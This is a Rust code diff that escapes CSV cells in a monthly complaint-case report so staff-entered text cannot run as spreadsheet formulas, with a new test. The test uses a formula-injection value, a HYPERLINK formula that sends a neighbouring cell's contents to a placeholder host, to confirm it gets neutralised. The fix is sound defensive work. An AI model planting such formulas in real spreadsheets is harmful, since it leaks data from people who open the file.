@@ -3,6 +3,7 @@
 //! Every figure carries the ids of the cases behind it so the UI can drill down.
 
 use super::datefmt::Layout;
+use super::spreadsheet::safe_cell;
 use std::collections::BTreeMap;
 use std::sync::Arc;
 
@@ -733,11 +734,11 @@ pub fn monthly_report_csv(report: &MonthlyReport, lang: Language) -> Result<Vec<
     ])?;
     let mut row = |section: &str, item: String, f: &Figure, share: String| {
         w.write_record([
-            section.to_string(),
-            item,
+            safe_cell(section),
+            safe_cell(&item),
             f.count.to_string(),
             share,
-            numbers(f),
+            safe_cell(&numbers(f)),
         ])
     };
     let period = format!("{}-{:02}", report.year, report.month);
@@ -858,19 +859,22 @@ pub fn monthly_report_csv(report: &MonthlyReport, lang: Language) -> Result<Vec<
         l("反馈时限", "Response limit"),
     ])?;
     for c in &report.cases {
-        w.write_record([
-            c.case_no.clone(),
-            fmt_time(c.received_at),
-            lang.pick(c.channel.zh(), c.channel.en()).into(),
-            category_label(c.category, lang),
-            severity_label(c.severity, lang),
-            department_label(&c.department, lang),
-            lang.pick(c.status.zh(), c.status.en()).into(),
-            responsibility_label(c.responsibility, lang),
-            c.responded_at.map(fmt_time).unwrap_or_default(),
-            state_label(c.investigation, lang).into(),
-            state_label(c.response, lang).into(),
-        ])?;
+        w.write_record(
+            [
+                c.case_no.clone(),
+                fmt_time(c.received_at),
+                lang.pick(c.channel.zh(), c.channel.en()).into(),
+                category_label(c.category, lang),
+                severity_label(c.severity, lang),
+                department_label(&c.department, lang),
+                lang.pick(c.status.zh(), c.status.en()).into(),
+                responsibility_label(c.responsibility, lang),
+                c.responded_at.map(fmt_time).unwrap_or_default(),
+                state_label(c.investigation, lang).into(),
+                state_label(c.response, lang).into(),
+            ]
+            .map(|cell: String| safe_cell(&cell)),
+        )?;
     }
     w.into_inner().map_err(|e| e.into_error().into())
 }
@@ -1518,6 +1522,30 @@ mod tests {
             vec![10, 11, 12]
         );
         assert_eq!(q4.top_staff, vec![]);
+    }
+
+    #[test]
+    fn csv_cells_typed_by_staff_never_run_as_formulas() {
+        let cal = WorkingCalendar::china_official();
+        let mut cases = fixture();
+        cases[0].department = Some("=HYPERLINK(\"http://x/?\"&A2)".into());
+        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
+        let bytes = monthly_report_csv(&r, Language::Zh).unwrap();
+        let text = std::str::from_utf8(&bytes[3..]).unwrap();
+        let cells: Vec<String> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+            .collect();
+        assert!(cells.iter().all(|c| !c.starts_with('=')), "{cells:?}");
+        // In the summary's department rows and in the case's row.
+        let quoted = cells
+            .iter()
+            .filter(|c| c.starts_with("'=HYPERLINK"))
+            .count();
+        assert!(quoted >= 2, "{cells:?}");
     }
 
     #[test]
